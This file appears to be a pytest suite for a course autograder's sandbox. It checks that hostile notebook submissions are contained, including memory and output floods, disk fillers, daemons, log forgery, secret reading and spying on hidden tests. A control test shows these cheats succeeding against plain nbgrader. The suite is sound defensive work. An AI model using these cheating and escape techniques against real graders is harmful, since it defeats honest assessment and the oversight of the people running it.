def test_handing_in_the_reference_loses_those_points_and_says_why(hostile):
    assert hostile.scores("reference_caller") == {
        "test_numerical_derivative": 0, "test_tangent_line": 2, "test_numerical_gradient": 0,
        "test_directional_derivative": 2}
    errors = hostile.errors_of("reference_caller")
    for test in ("test_numerical_derivative", "test_numerical_gradient"):
        assert "course's own solution of this exercise" in errors[test][0], errors[test]
        assert "write your own" in errors[test][0]


def test_memory_is_limited_for_all_processes_of_a_kernel_together(hostile):
    found = re.search(r"FANOUT \[(.*)\]", hostile.printed("memory_fanout"))
    assert found, hostile.printed("memory_fanout")[-2000:]
    # each child alone is within the limits; together they are not: the cgroup kills some
    assert "-9" in found.group(1).split(", "), found.group(0)


def test_a_judge_flood_is_cut_at_the_source(hostile):
    for errors in hostile.errors_of("judge_flood").values():
        assert errors[0].startswith("NotGraded: the notebook's kernel stopped answering"), errors
        assert "over the limit" in errors[0]


def test_an_output_flood_is_cut_before_the_grader_holds_it(hostile):
    graded = hostile.course / "autograded" / "output_flood" / NAME / f"{NAME}.ipynb"
    honest = hostile.course / "autograded" / "honest" / NAME / f"{NAME}.ipynb"
    assert graded.stat().st_size < honest.stat().st_size + 100_000
    # its one message of 24 MiB is dropped by the socket, before this process holds it
    assert ("output cut: this cell sent a message of more than 16,777,216 bytes; the rest of its "
            "output is lost") in hostile.printed("output_flood")


def test_a_disk_filler_fills_only_its_scratch(hostile):
    found = re.search(r"DISK (\d+) \[(.*)\]", hostile.printed("disk_filler"))
    assert found, hostile.printed("disk_filler")[-2000:]
    assert int(found.group(1)) <= DISK >> 20 and "'No space left on device'" in found.group(2)
    graded = hostile.course / "autograded" / "disk_filler" / NAME
    assert sorted(p.name for p in graded.iterdir()) == [f"{NAME}.ipynb"]


def test_system_v_objects_end_with_the_kernel(hostile):
    found = re.search(r"IPC (-?\d+) (-?\d+)", hostile.printed("ipc_leftovers"))
    assert found and int(found.group(1)) >= 0 and int(found.group(2)) >= 0, found
    for table in ("shm", "msg"):
        keys = [int(line.split()[0]) for line in
                Path(f"/proc/sysvipc/{table}").read_text().splitlines()[1:]]
        assert IPC_KEY not in keys, table


def test_proc_shows_only_the_kernels_own_processes(hostile):
    found = re.search(r"PROCS (\d+)", hostile.printed("proc_snoop"))
    assert found and int(found.group(1)) <= 4, hostile.printed("proc_snoop")[-2000:]


def test_a_daemon_does_not_outlive_its_kernel(hostile):
    assert "DAEMON started" in hostile.printed("surviving_daemon")
    assert not list(hostile.course.rglob("planted-by-daemon.txt"))


# -- issue 18, items 5 and 6 ------------------------------------------------------------------

def test_no_descriptor_of_the_grading_log_reaches_the_kernel(hostile):
    found = re.search(r"FDS (\{.*\})", hostile.printed("log_forger"))
    assert found, hostile.printed("log_forger")[-2000:]
    targets = found.group(1)
    assert str(hostile.course) not in targets and ".log" not in targets, targets
    log = outcome_path(Course.open(hostile.course), NAME, "log_forger", ".log")
    assert "FORGED" not in log.read_text()


def test_seccomp_refuses_what_a_notebook_never_needs(hostile):
    if platform.machine() != "x86_64":
        pytest.skip("the system-call numbers of the attack are x86_64's")
    found = re.search(r"SYSCALLS (\{.*\})", hostile.printed("system_calls"))
    assert found, hostile.printed("system_calls")[-2000:]
    results = eval(found.group(1))  # a dict literal the notebook printed
    assert results == dict.fromkeys(results, "EPERM") and len(results) == 8, results


# -- the control: plain nbgrader ----------------------------------------------------------------

PLAIN_NBGRADER = """
# the control: nbgrader's own Execute, test cells in the student's kernel, no sandbox
from nbconvert.preprocessors import ClearMetadataPreprocessor as _Clear
c.Autograde.autograde_preprocessors = [nbg.Execute, nbg.IgnorePattern, _Clear, nbg.LimitOutput,
                                       nbg.SaveAutoGrades, nbg.AssignLatePenalties,
                                       nbg.CheckCellMetadata]
"""


def test_attacks_work_against_plain_nbgrader(tmp_path):
    """The control: without the sandbox and the judge, every cheat, spy and reference call
    succeeds."""
    course = make_course(tmp_path, [NAME])
    with open(course / "nbgrader_config.py", "a") as config:
        config.write(PLAIN_NBGRADER)
    nbgrader(course, "generate_assignment", NAME, "--force")
    release = course / "notebooks" / NAME / f"{NAME}.ipynb"
    submissions = {**{attack: cheating(source, release) for attack, source in CHEATS.items()},
                   "reads_secrets": stub_with(READ_SECRETS.replace("{canary}", "/nonexistent"),
                                              release),
                   "spy": solution_with(HIDDEN_INPUT_SPY, "numerical_derivative"),
                   "reference_caller": answers_replaced(REFERENCE_CALLER)}
    for student, nb in submissions.items():
        write_submission(course, student, nb)
    nbgrader(course, "autograde", NAME, "--force")

    def total(student):
        with Gradebook(f"sqlite:///{course / 'gradebook.db'}", COURSE_ID) as gb:
            notebook = gb.find_submission_notebook(NAME, NAME, student)
            return sum(g.auto_score for g in notebook.grades if g.cell_type == "code")
    for attack in CHEATS:
        assert total(attack) >= 2, attack
    assert total("reads_secrets") == FULL_MARKS
    assert total("reference_caller") == FULL_MARKS
    spied = "\n".join(o.get("text", "") for c in read(
        course / "autograded" / "spy" / NAME / f"{NAME}.ipynb").cells for o in c.get("outputs", []))
    # it saw the hidden tests' source, and their inputs (x = 1.2 is a hidden test's)
    assert [line for line in hidden_lines() if line in spied] and "SPYCALL 1.2" in spied


# -- the launcher on its own ------------------------------------------------------------------

def run_launcher(tmp_path, code: str, settings: dict, **kwargs):
    command = [sys.executable, "-m", "course_lib.grading.sandbox.launcher", "--settings",
               json.dumps(settings), "--", sys.executable, "-c", code]
    return subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, timeout=60,
                          **kwargs)


def test_cpu_limit_stops_a_burning_kernel(tmp_path):
    limits = {**sandbox.DEFAULT_LIMITS, "cpu_seconds": 2}
    result = run_launcher(tmp_path, "while True: pass", {"limits": limits, "uid": None,
                                                         "mode": "limits"})
    assert result.returncode in (-9, -24), result  # SIGXCPU at the limit (SIGKILL at the hard one)


@pytest.mark.root(sandbox=True)
def test_isolation_report_as_root():
    ok, messages = sandbox.isolation_report()
    assert ok, messages
    assert any(m.startswith("OK   user: student code and the judge run as") for m in messages)
    assert any(m.startswith("OK   sandbox: bubblewrap") for m in messages)
    assert any(m.startswith("OK   system calls: a seccomp filter") for m in messages)


@pytest.mark.root
def test_without_bubblewrap_the_report_names_the_fallback(monkeypatch):
    monkeypatch.setenv(sandbox.SANDBOX_ENV, "namespaces")
    ok, messages = sandbox.isolation_report()
    assert not ok
    assert any(m.startswith("NOT ISOLATED  sandbox: bubblewrap is missing") for m in messages)


@pytest.mark.root
def test_without_root_grading_still_runs_and_the_report_says_so(tmp_path):
    """As an ordinary user (nobody) the launcher applies the limits only, and the report says
    plainly what is not isolated."""
    nobody = pwd.getpwnam("nobody")
    os.chmod(tmp_path, 0o777)

    def become_nobody():
        os.setgid(nobody.pw_gid)
        os.setuid(nobody.pw_uid)

    try:
        subprocess.run([sys.executable, "-c", "import course_lib"], preexec_fn=become_nobody,
                       cwd=tmp_path, check=True, capture_output=True)
    except (PermissionError, subprocess.CalledProcessError):
        # a private checkout (a home folder of mode 700): other users cannot reach its Python
        pytest.skip(f"the user nobody cannot run {sys.executable} with course_lib (a private "
                    f"checkout or interpreter); this test needs them readable by other users")
    report = subprocess.run([sys.executable, "-c", "from course_lib.grading.sandbox import kernel as sandbox; "
                             "import json; print(json.dumps(sandbox.isolation_report()))"],
                            capture_output=True, text=True, preexec_fn=become_nobody, cwd=tmp_path)
    assert report.returncode == 0, report.stderr[-3000:]
    ok, messages = json.loads(report.stdout)
    assert not ok
    assert any(m.startswith("NOT ISOLATED  user: not running as root") for m in messages)
    assert any(m.startswith("NOT ISOLATED  submission limits") for m in messages)
    code = "import resource, os; print(resource.getrlimit(resource.RLIMIT_FSIZE)[0], os.getuid())"
    result = run_launcher(tmp_path, code, {"limits": sandbox.DEFAULT_LIMITS, "uid": None,
                                           "mode": "limits"}, preexec_fn=become_nobody)
    assert result.stdout.split() == [str(sandbox.DEFAULT_LIMITS["file_bytes"]),
                                     str(nobody.pw_uid)], result


def test_wire_refuses_a_message_over_its_size_at_the_header(tmp_path):
    """The judge's end reads no more than a frame's announced size allows (no flood held)."""
    from course_lib.grading.judge.wire import MAX_FRAME, WireError, receive_message
    left, right = socket.socketpair()
    with left, right:
        header = json.dumps({"op": "reply", "frames": 1}).encode()
        left.sendall(len(header).to_bytes(8, "big") + header + (MAX_FRAME + 1).to_bytes(8, "big"))
        start = time.perf_counter()
        with pytest.raises(WireError, match="over the limit"):
            receive_message(right)
        assert time.perf_counter() - start < 5

